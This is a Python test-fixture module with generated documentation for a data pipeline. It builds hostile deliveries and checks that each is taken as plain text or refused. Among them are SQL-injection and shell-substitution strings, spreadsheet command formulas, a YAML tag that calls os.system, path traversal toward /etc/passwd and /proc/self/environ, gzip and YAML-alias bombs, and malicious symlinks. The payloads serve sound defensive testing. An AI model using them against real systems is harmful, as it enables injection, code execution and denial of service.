"""Hostile deliveries: what lies in the landing folder, what becomes of it, what a person is told.

Tested by test_hostile.py and printed with damaged_cases into docs/deliveries.md. Two kinds: texts
that are taken as the text they are (or refused as any wrong value), all in one refresh, and files,
folders and mapping files that are refused whole, each in a landing folder of its own beside a sound
file.
"""

import gzip
import io
import os
import socket
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from orchestration.landing import limits
from tests.python.landing.damaged_cases import (
    HEAD,
    Case,
    Content,
    Counts,
    cell,
    entry,
    lines,
    one,
    order,
    orders,
    parquet,
    row,
)

# What lies outside, and what a variable of the environment holds: neither may ever be seen.
SECRET = "canary-7731"  # noqa: S105 - a mark to look for
VARIABLE = "HOLDFAST_CANARY"
# A command, statement or formula that runs would leave a file of this name in this folder.
TRACE = "/tmp/holdfast-hostile-trace"  # noqa: S108 - nothing is ever written there

SQL = f"1'); copy (select 1) to '{TRACE}'; drop schema landing cascade; --"
IDENTIFIER = f"x\"; copy (select 1) to '{TRACE}'; --"
JINJA = "{{ env_var('HOLDFAST_CANARY') }}"
SHELL = f"$(touch {TRACE})`touch {TRACE}`;touch {TRACE}"
ESCAPE = "\x1b]0;owned\x07\x1b[2J"
SCRIPT = "<script>alert(1)</script>"


def _texts() -> list[Case]:
    out: list[Case] = []

    def add(area: str, name: str, files: dict[str, Content], *counts: Counts, **more) -> None:
        out.append(Case(area, name, files, counts, **more))

    def channel(text: str) -> str:
        quoted = text.replace('"', '""')
        return orders(f'1,2026-03-01,paid,5,"{quoted}"', head=HEAD + ",sales_channel")

    area = "Texts in cells"
    for name, text in (
        ("SQL in a cell", SQL),
        ("Jinja in a cell", JINJA + "{% raw %}{% set x = 1 %}"),
        ("shell in a cell", SHELL),
        ("formula HYPERLINK", '=HYPERLINK("http://example.com/?"&A1,"x")'),
        ("formula of a command", "+cmd|' /C calc'!A0"),
        ("formula SUM", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("script in a cell", SCRIPT),
        ("terminal escapes in a cell", ESCAPE),
        ("writing turned round in a cell", "abc\u202etxt.exe"),
        ("path in a cell", "../../../../etc/passwd"),
        ("address in a cell", "http://127.0.0.1:9/x"),
        ("format marks in a cell", "%s%n{0}{x!r}${y}$1\\1"),
    ):
        add(area, name, one(channel(text)), (1, 1, 0, 0), holds=f"1={text}", shows="sales_channel")
    for name, text in (
        ("SQL for a number", SQL.replace(",", "")),
        ("script for a number", SCRIPT),
        ("terminal escapes for a number", ESCAPE),
    ):
        add(
            area,
            name,
            one(orders(order(1, "6"), order(2, text))),
            (2, 1, 1, 0),
            holds="1=6",
            told=f"orders.gross_amount.type: {text}",
        )
    add(
        area,
        "SQL, Jinja and dunders for keys",
        one(
            orders(
                f'"{SQL}",2026-03-01,paid,7',
                f'"{JINJA}",2026-03-01,paid,8',
                "__proto__,2026-03-01,paid,9",
                "constructor,2026-03-01,paid,10",
            )
        ),
        (4, 4, 0, 0),
        holds=f"{SQL}=7, __proto__=9, constructor=10, {JINJA}=8",
    )
    add(
        area,
        "zero character in JSON",
        one(lines(entry("1", 11, sales_channel="a\0b")), "jsonl"),
        (1, 1, 0, 0),
        holds="1=a(zero)b",
        shows="replace(sales_channel, chr(0), '(zero)')",
    )
    add(
        area,
        "half a character in JSON",
        one(lines(entry("1", 12), '{"order_id": "2", "sales_channel": "\\ud800"}'), "jsonl"),
        (2, 1, 1, 0),
        holds="1=12",
        told="the line is no JSON object",
    )

    area = "Headers and names of values"
    for name, text in (
        ("SQL in a header", IDENTIFIER),
        ("Jinja in a header", JINJA),
        ("script in a header", SCRIPT),
        ("terminal escapes in a header", ESCAPE),
        ("line end in a header", "a\nb"),
        ("header of 10,000 characters", "x" * 10_000),
    ):
        quoted = text.replace('"', '""')
        add(
            area,
            name,
            one(orders(order(1, "13,x"), head=f'{HEAD},"{quoted}"')),
            (1, 1, 0, 0),
            holds="1=13",
            told=f"unknown columns kept out: a column named by {len(text)} characters",
        )
    add(
        area,
        "columns of our own machinery",
        one(
            orders(
                order(1, "14,9,9,x,true,r9,9"),
                head=HEAD + ",_row,_line,_file,_is_held,_refresh_id,file_row_number",
            )
        ),
        (1, 1, 0, 0),
        holds="1=14",
        told="unknown columns kept out: _row, _line, _file",
    )
    add(
        area,
        "dunders and signs as JSON names",
        one(
            lines(entry("1", 15, **{"__proto__": {"x": 1}, "a'b\"c": 2, "/a~1b": 3, "$[*]": 4})),
            "jsonl",
        ),
        (1, 1, 0, 0),
        holds="1=15",
        told="__proto__",
    )
    add(
        area,
        "quotes in a Parquet column",
        one(
            parquet(
                "select 1 as order_id, 'paid' as status, date '2026-03-01' as ordered_at,"
                ' 16 as gross_amount, 5 as "x""; drop table y; --\'"'
            ),
            "parquet",
        ),
        (1, 1, 0, 0),
        holds="1=16",
        told="unknown columns kept out: a column named by",
    )
    add(
        area,
        "a Parquet column named as the engine's own",
        one(
            parquet(
                "select 1 as order_id, 'paid' as status, date '2026-03-01' as ordered_at,"
                " 17 as gross_amount, 99 as line, 98 as filename"
            ),
            "parquet",
        ),
        (1, 1, 0, 0),
        holds="1=17 line 1",
        shows="gross_amount::double::int || ' line ' || _line",
        told="unknown columns kept out: line, filename",
    )

    area = "Names of files"
    # of files of one content only the first is loaded
    for number, (name, file) in enumerate(
        (
            ("SQL in a name", SQL.replace("/", "|")[:200]),
            ("quotes and semicolons in a name", "a'b\"c;d"),
            ("Jinja in a name", JINJA),
            ("shell in a name", SHELL.replace("/", "|")),
            ("formula in a name", '=HYPERLINK("x")'),
            ("script in a name", SCRIPT.replace("/", "|")),
            ("name of 255 bytes", "n" * 251),
        )
    ):
        add(
            area,
            name,
            {f"orders/{file}.csv": orders(order(1, f"21.{number}"))},
            (1, 1, 0, 0),
            holds=f"1={file}.csv",
            shows="string_split(_file, '/')[-1]",
        )
    add(
        area,
        "a name that is a pattern for its neighbour",
        {
            "orders/[b]*.csv": orders(order(1, "22")),
            "orders/bc.csv": orders(order(2, "23")),
        },
        (1, 1, 0, 0),
        (1, 1, 0, 0),
        holds="1=[b]*.csv, 2=bc.csv",
        shows="string_split(_file, '/')[-1]",
    )
    add(
        area,
        "a folder that looks like a column",
        {"orders/status=void/a.csv": orders(order(1, "24"))},
        (1, 1, 0, 0),
        holds="1=paid",
        shows="status",
    )

    area = "Texts in inputs.yml"
    for name, text, amount in (
        ("SQL as a constant", SQL, "31.1"),
        ("Jinja as a constant", JINJA, "31.2"),
    ):
        add(
            area,
            name,
            one(orders(order(1, amount))),
            (1, 1, 0, 0),
            holds=f"1={text}",
            shows="sales_channel",
            mapping={"constants": {"sales_channel": text}},
        )
    add(
        area,
        "SQL as a name of a column",
        one(
            orders(
                f"{order(1, '32')},x", head=f'{HEAD},"{IDENTIFIER.replace(chr(34), chr(34) * 2)}"'
            )
        ),
        (1, 1, 0, 0),
        holds="1=x",
        shows="sales_channel",
        mapping={"columns": {"sales_channel": IDENTIFIER}},
    )
    add(
        area,
        "name of a column of 10,000 characters",
        one(orders(order(1, "33"))),
        (1, 1, 0, 0),
        holds="1=33",
        told="has no column 'xxxxxxxxxx",
        mapping={"columns": {"sales_channel": "x" * 10_000}},
    )
    add(
        area,
        "SQL among values and words for absent",
        one(orders(f'1,2026-03-01,paid,34,"{SQL}"', head=HEAD + ",sales_channel")),
        (1, 1, 0, 0),
        holds="1=web",
        shows="sales_channel",
        mapping={"values": {"sales_channel": {SQL: "web"}}, "null_texts": [SQL + "'"]},
    )
    add(
        area,
        "SQL in a format of dates",
        one(orders(order(1, "35"))),
        (1, 1, 0, 0),
        holds="1=35",
        mapping={"date_formats": [f"%d'); copy (select 1) to '{TRACE}'; --"]},
    )

    area = "Packed and bent"
    members = [f"{HEAD}\n", *[""] * 1_000, order(1, "41") + "\n", order(2, "41") + "\n"]
    add(
        area,
        "gzip of 1,003 members",
        one(b"".join(gzip.compress(part.encode(), mtime=0) for part in members), "csv.gz"),
        (2, 2, 0, 0),
        holds="1=41, 2=41",
    )
    deep = '{"order_id": "2", "sales_channel": ' + "[" * 100_000 + "]" * 100_000 + "}"
    add(
        area,
        "JSON nested 100,000 deep",
        one(lines(entry("1", 42), deep, entry("3", 43)), "jsonl"),
        (3, 2, 1, 0),
        holds="1=42, 3=43",
    )
    return out


@dataclass(frozen=True)
class Refused:
    """What is refused whole, beside a sound file that is not touched by it.

    Attributes:
        area: Heading it stands under.
        name: What is hostile about it.
        shown: What is delivered, as a person reads it.
        make: Makes it in the landing folder; the second argument is a folder outside.
        told: Part of what a person is told.
        file: The file that is told; empty = it is not told as a file of an input, but in a message.
        mapping: Whether it is the mapping file, so that nothing can be read at all.
    """

    area: str
    name: str
    shown: str
    make: Callable[[Path, Path], None]
    told: str
    file: str = ""
    mapping: bool = False

    @property
    def slug(self) -> str:
        """The case as a test's name."""
        return "".join(sign if sign.isalnum() else "_" for sign in self.name.lower())


def _link(name: str, target: str | Callable[[Path], Path]) -> Callable[[Path, Path], None]:
    def make(landing: Path, outside: Path) -> None:
        path = landing / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target if isinstance(target, str) else target(outside))

    return make


def _hard_link(landing: Path, outside: Path) -> None:
    os.link(outside / "orders.csv", landing / "orders_hard.csv")


def _pipe(name: str) -> Callable[[Path, Path], None]:
    return lambda landing, _: os.mkfifo(landing / name)


def _socket(landing: Path, _: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(os.path.relpath(landing / "orders_s.csv"))


def _file(name: str | bytes, content: Content) -> Callable[[Path, Path], None]:
    def make(landing: Path, _: Path) -> None:
        path = os.path.join(os.fsencode(landing), os.fsencode(name))  # noqa: PTH118 - of bytes
        os.makedirs(os.path.dirname(path), exist_ok=True)  # noqa: PTH103, PTH120
        made = content() if callable(content) else content
        with open(path, "wb") as file:  # noqa: PTH123
            file.write(made.encode() if isinstance(made, str) else made)

    return make


def _bomb() -> bytes:
    """Zeros that unpack to twice what is allowed."""
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", mtime=0) as file:
        for _ in range(2 * limits.ALWAYS_EXPANDED >> 20):
            file.write(b"\n" * (1 << 20))
    return packed.getvalue()


def _bent_footer() -> bytes:
    """A Parquet file whose footer claims four gigabytes."""
    made = parquet("select 1 as order_id")()
    return made[:-8] + struct.pack("<I", 0xFFFFFFF0) + b"PAR1"


def _refused() -> list[Refused]:
    out: list[Refused] = []
    sound = orders(order(1, "5"))

    def add(area: str, name: str, shown: str, make, told: str, file: str = "", **more) -> None:
        out.append(Refused(area, name, shown, make, told, file, **more))

    def mapping(name: str, text: str | bytes, told: str) -> None:
        shown = text if isinstance(text, str) and len(text) < 100 else f"{len(text):,} characters"
        add(
            "inputs.yml",
            name,
            repr(shown)[1:-1],
            _file("inputs.yml", text),
            told,
            mapping=True,
        )

    area = "Links and special files"
    link = "is a link, and links are not followed"
    beside = "orders.csv"
    for name, file, target in (
        ("link to a file outside", "orders/l.csv", lambda outside: outside / beside),
        ("link in the place of an input's file", "orders.csv", lambda outside: outside / beside),
        ("link in the place of an input's folder", "products", lambda outside: outside / "folder"),
        ("link to a folder within an input's", "orders/more", lambda outside: outside / "folder"),
        ("link within the landing folder", "orders_x.csv", "sound.csv"),
        ("link that leads nowhere", "orders_x.csv", "nowhere.csv"),
        ("link to itself", "orders_x.csv", "orders_x.csv"),
        ("link to a device without end", "orders_x.csv", "/dev/zero"),
        ("link to the process's own memory", "orders_x.csv", "/proc/self/environ"),
    ):
        to = target if isinstance(target, str) else f"…/outside/{target(Path()).name}"
        add(area, name, f"{file} → {to}", _link(file, target), link, file)
    add(
        area,
        "link that belongs to no input",
        "other → …/outside/folder",
        _link("other", lambda outside: outside / "folder"),
        f"other: {link}",
    )
    add(
        area,
        "hard link to a file outside",
        "orders_hard.csv = …/outside/orders.csv",
        _hard_link,
        "has another name outside the landing folder",
        "orders_hard.csv",
    )
    special = "is no file but a pipe, a socket or a device"
    add(area, "pipe", "orders_p.csv", _pipe("orders_p.csv"), special, "orders_p.csv")
    add(area, "socket", "orders_s.csv", _socket, special, "orders_s.csv")

    area = "Names that steer"
    bad = "has control characters in its name, or bytes that are no UTF-8"
    for name, file, told in (
        ("line end in a name", "orders_a\nb.csv", "orders_a\\nb.csv"),
        ("terminal escapes in a name", f"orders_{ESCAPE}.csv", None),
        ("writing turned round in a name", "orders_\u202evsc.csv", "orders_\\u202evsc.csv"),
        ("name that is no UTF-8", b"orders_\xff\xfe.csv", "orders_\\xff\\xfe.csv"),
    ):
        told = told or "orders_\\x1b]0;owned\\x07\\x1b[2J.csv"
        add(area, name, told, _file(file, sound), bad, told)

    area = "Packed and bent"
    packed = "is an archive or a workbook"
    for ending, magic in (
        ("zip", b"PK\x03\x04"),
        ("xlsx", b"PK\x03\x04"),
        ("csv.zst", b"\x28\xb5\x2f\xfd"),
        ("7z", b"7z\xbc\xaf"),
    ):
        file = f"orders.{ending}"
        add(area, f"archive .{ending}", file, _file(file, magic + b"x" * 99), packed, file)
    add(
        area,
        "archive under the name .csv",
        "orders_z.csv",
        _file("orders_z.csv", b"PK\x03\x04" + b"x" * 99),
        packed,
        "orders_z.csv",
    )
    add(
        area,
        "gzip that expands a thousandfold",
        f"{2 * limits.ALWAYS_EXPANDED >> 20} MB in half a megabyte",
        _file("orders.csv.gz", _bomb),
        "unpacks to more than 268 MB",
        "orders.csv.gz",
    )
    add(
        area,
        "gzip within gzip",
        "orders.csv.gz",
        _file("orders.csv.gz", gzip.compress(gzip.compress(sound.encode()))),
        "is packed twice",
        "orders.csv.gz",
    )
    add(
        area,
        "gzip with something behind it",
        "orders.csv.gz",
        _file("orders.csv.gz", gzip.compress(sound.encode()) + b"#!/bin/sh\n"),
        "is damaged: it cannot be unpacked",
        "orders.csv.gz",
    )
    add(
        area,
        "Parquet of 20,000,000 equal rows",
        "in 100 kB",
        _file("orders.parquet", parquet("select 1 as order_id from range(20000000)")),
        "says to hold 20,000,000 rows",
        "orders.parquet",
    )
    add(
        area,
        "Parquet of values that expand",
        "300 values of 1 MB in 100 kB",
        _file(
            "orders.parquet",
            parquet("select range || repeat('x', 1000000) as order_id from range(300)", zstd=True),
        ),
        "says to hold 300 rows and 300 MB",
        "orders.parquet",
    )
    add(
        area,
        "Parquet of one value said over and over",
        "300 times the same 1 MB in 2 kB",
        _file(
            "orders.parquet",
            parquet("select repeat('x', 1000000) as order_id from range(300)"),
        ),
        "says to hold 300 rows and 300 MB",
        "orders.parquet",
    )
    add(
        area,
        "Parquet of binary values said over and over",
        "300 times the same 1 MB in 2 kB",
        _file(
            "orders.parquet",
            parquet("select repeat('x', 1000000)::blob as order_id from range(300)"),
        ),
        "says to hold 300 rows and 300 MB",
        "orders.parquet",
    )
    add(
        area,
        "Parquet with a footer of four gigabytes",
        "orders.parquet",
        _file("orders.parquet", _bent_footer),
        "is no sound Parquet file",
        "orders.parquet",
    )
    add(
        area,
        "Parquet with text that is no UTF-8",
        "orders.parquet",
        _file(
            "orders.parquet",
            lambda: parquet("select 'aaaaaaaa' as order_id")().replace(b"aaaaaaaa", b"\xff" * 8),
        ),
        "cannot be",
        "orders.parquet",
    )

    area = "Too much of it"
    columns = "has more than 2,000 columns"
    add(
        area,
        "CSV of 1,000,000 columns",
        "a,a,a,…",
        _file("orders.csv", HEAD + ",a" * 1_000_000 + "\n"),
        columns,
        "orders.csv",
    )
    add(
        area,
        "header of 3 MB",
        "order_id,…",
        _file("orders.csv", HEAD + "," + "x" * 3_000_000 + "\n"),
        "has a header",
        "orders.csv",
    )
    add(
        area,
        "JSON of 100,000 names",
        '{"a0": 0, "a1": 0, …}',
        _file("orders.jsonl", lambda: lines({f"a{n}": 0 for n in range(100_000)}).encode()),
        columns,
        "orders.jsonl",
    )
    add(
        area,
        "zero character in a JSON name",
        '{"a\\u0000": 1}',
        _file("orders.jsonl", lines({"a\0": 1})),
        "has a zero character in the name of a value",
        "orders.jsonl",
    )
    add(
        area,
        "6,000,000 empty lines",
        "\\n\\n\\n…",
        _file("orders.csv", lambda: sound.encode() + b"\n" * 6_000_000),
        "has more than 5,000,000 lines that are empty",
        "orders.csv",
    )

    out_of = "leads out of the landing folder"
    for name, pattern, told in (
        ("pattern up and out", "../outside/*.csv", out_of),
        ("pattern out by a detour", "orders/../../outside/*.csv", out_of),
        ("absolute path", "/etc/passwd", out_of),
        ("address http", "http://127.0.0.1:9/orders.csv", "is an address"),
        ("address s3", "s3://bucket/orders.csv", "is an address"),
        ("address file", "file:///etc/passwd", "is an address"),
    ):
        mapping(name, f'inputs: {{orders: {{files: ["{pattern}"]}}}}', told)
    mapping(
        "code in a tag",
        f'inputs: !!python/object/apply:os.system ["touch {TRACE}"]',
        "could not determine a constructor",
    )
    laughs = 'a: &a ["x"]\n' + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(12)
    )
    mapping("aliases that stand for billions", laughs, "stands for more than 100,000 values")
    merges = "a: &a {k0: 1}\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} {{<<: [{', '.join(['*' + chr(97 + n)] * 9)}]}}\n"
        for n in range(12)
    )
    mapping("merges that stand for billions", merges, "stands for more than 100,000 values")
    mapping("an alias for itself", "inputs: &a {orders: *a}", "alias for what it stands in")
    mapping("nesting 20,000 deep", "inputs: " + "[" * 20_000, "nested too deeply")
    mapping("2 MB", "#" * 2_000_000, "has more than 1,000,000 bytes")
    mapping("a key of 10,000 characters", "? " + "x" * 10_000 + "\n: 1", "unknown key 'xxxx")
    mapping("SQL for an input", f'inputs: {{"{SQL}": {{}}}}', "unknown key")
    mapping("terminal escapes", 'inputs: {"\\e]0;x\\a": {}}', "unknown key '\\\\x1b]0;x\\\\x07'")
    mapping("zero character", 'constants: {currency: "E\\0R"}', "holds a zero character")
    mapping("number of 10,000 digits", "decimal: !!int " + "9" * 10_000, "is not valid YAML")
    mapping("decimal sign of 10,000 digits", "decimal: " + "9" * 10_000, "must be one of")
    mapping("a list for a text", "constants: {_source: [a, b]}", "has list where one text belongs")
    mapping("codec that unpacks", "encoding: zlib", "'zlib' is not known")
    mapping("time zone by path", "time_zone: ../../etc/passwd", "is no IANA zone")
    mapping("format the engine refuses", 'date_formats: ["%Q"]', "is no format such as")
    mapping("the last day there is", "loaded_through: 9999-12-31", "must be a day or instant")
    mapping("bytes that are no text", b"\xff\xfe\x00", "is not valid YAML")
    add(
        "inputs.yml",
        "a link for inputs.yml",
        "inputs.yml → …/outside/inputs.yml",
        _link("inputs.yml", lambda outside: outside / "inputs.yml"),
        f"inputs.yml {link}",
        mapping=True,
    )
    add(
        "inputs.yml",
        "a pipe for inputs.yml",
        "inputs.yml",
        _pipe("inputs.yml"),
        f"inputs.yml {special}",
        mapping=True,
    )
    return out


TEXTS = _texts()
REFUSED = _refused()


def section() -> str:
    """Returns the part of docs/deliveries.md on hostile deliveries."""
    parts = [_INTRODUCTION.format(cases=len(TEXTS) + len(REFUSED))]
    parts.append(
        "\n### Taken as the text it is, or refused as any wrong value\n\n| what is delivered |"
        " example | what is taken | what stands | what you are told |\n|---|---|---|---|---|\n"
    )
    parts += [row(case) for case in TEXTS]
    for area in dict.fromkeys(case.area for case in REFUSED):
        parts.append(f"\n### {area}: refused\n\n")
        parts.append("| what is delivered | example | what you are told |\n|---|---|---|\n")
        for case in REFUSED:
            if case.area == area:
                name = case.name[0].upper() + case.name[1:]
                cells = [name, f"`{case.shown}`", f"… {case.told} …"]
                parts.append("| " + " | ".join(cell(text) for text in cells) + " |\n")
    return "".join(parts) + _LIMITS.format(
        expansion=limits.MOST_EXPANSION,
        expanded=limits.ALWAYS_EXPANDED >> 20,
        per_byte=limits.MOST_ROWS_PER_BYTE,
        rows=limits.ALWAYS_ROWS,
        columns=limits.MOST_COLUMNS,
        odd=limits.MOST_ODD_LINES,
    )


_INTRODUCTION = """
# What becomes of hostile deliveries

Whoever may write into the landing folder can deliver wrong numbers; he cannot make holdfast run
anything, read anything else, or fill the machine. {cases} cases below are tests
(`tests/python/landing/test_hostile.py`). In each a file outside the landing folder and a variable
of the environment hold a mark that may never be found in the work database, and every command,
statement and formula would leave a file behind if it ran. What is refused stops the refresh, named,
as any file that cannot be read; once it is taken away, the rest loads as if it had never been
there. No text of a delivery is ever SQL, Jinja, shell or HTML; on a terminal and on the page of
checks, characters that steer are written out (`\\x1b`).

Files are found by their names alone, never by following a link; each is opened once, and read by
that descriptor; one that changes or is renamed while it is read is refused. DuckDB's connections
that load, guard and accept reach nothing but the landing folder and their scratch folder, load no
extension, and their configuration is locked. dbt's connection reaches no file.

A folder of 100,000 files is listed in 2 CPU seconds and hashed in 6; reading a new file takes about
30 ms, so many rows belong into few files.
"""
_LIMITS = """
### What is taken at most

| what | limit | why |
|---|---|---|
| unpacked gzip, values of Parquet | {expansion} times the file, at least {expanded} MiB; a third \
of the free disk | exports pack 5 to 30 times, a bomb 1,000 times |
| rows of Parquet | {per_byte} a byte, at least {rows:,} | a row has a key |
| columns of a file, names of values in JSON | {columns:,} | exports have some hundred |
| header of a CSV | 1 MiB | |
| lines that are empty, too long or do not parse | {odd:,} of each | what is known of \
them is kept in memory |
| files in the landing folder | 200,000 | 21 inputs, a file a day each, 25 years |
| inputs.yml | 1 MB, 100,000 values with its aliases written out | |
| memory of DuckDB | `HOLDFAST_MEMORY_LIMIT`, half of the machine's or container's, at most 6 GB | |

### What cannot be prevented

- False numbers in the right form. The guards on weekly rows and revenue see the coarse ones.
- A hostile file stops the refresh, as an unreadable one does: the published marts stand, and the
  message names it. Leaving it out silently would publish marts that lack an input.
- A text that a spreadsheet takes for a formula stays as delivered in the marts, for it is data:
  whoever exports a mart to a spreadsheet imports such columns as text.
- Whoever may write into the warehouse folder or into the project can do anything the refresh can.
"""
